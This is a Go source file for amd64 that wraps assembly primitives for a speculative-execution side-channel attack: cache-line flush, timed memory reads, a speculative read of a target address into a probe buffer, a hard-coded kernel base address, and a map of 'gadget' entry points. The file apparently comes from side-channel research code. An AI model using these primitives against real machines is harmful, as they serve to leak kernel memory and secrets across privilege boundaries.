//go:build amd64

package hwkit

import (
	"reflect"
)

// KernelBase is the lowest address of the kernel's image mapping.
const KernelBase uintptr = 0xffffffff80000000

// Defined in assembler.
func clflush(addr uintptr)
func timedRead(addr uintptr) uint64
func specRead(target uintptr, probe uintptr, shift uint)

// Native returns the Hardware implementation for the current
// instruction set.
func Native() (Hardware, error) {
	return amd64Hardware{}, nil
}

type amd64Hardware struct{}

func (amd64Hardware) Flush(addr uintptr) {
	clflush(addr)
}

func (amd64Hardware) TimedRead(addr uintptr) uint64 {
	return timedRead(addr)
}

func (amd64Hardware) SpeculativeRead(target uintptr, probe uintptr, lineShift uint) {
	specRead(target, probe, lineShift)
}

// Gadgets maps the name of each assembly routine to the address of
// its entry point. The addresses may refer to compiler generated
// wrappers that call the routine.
func Gadgets() map[string]uintptr {
	return map[string]uintptr{
		"flush":     reflect.ValueOf(clflush).Pointer(),
		"timedRead": reflect.ValueOf(timedRead).Pointer(),
		"specRead":  reflect.ValueOf(specRead).Pointer(),
	}
}
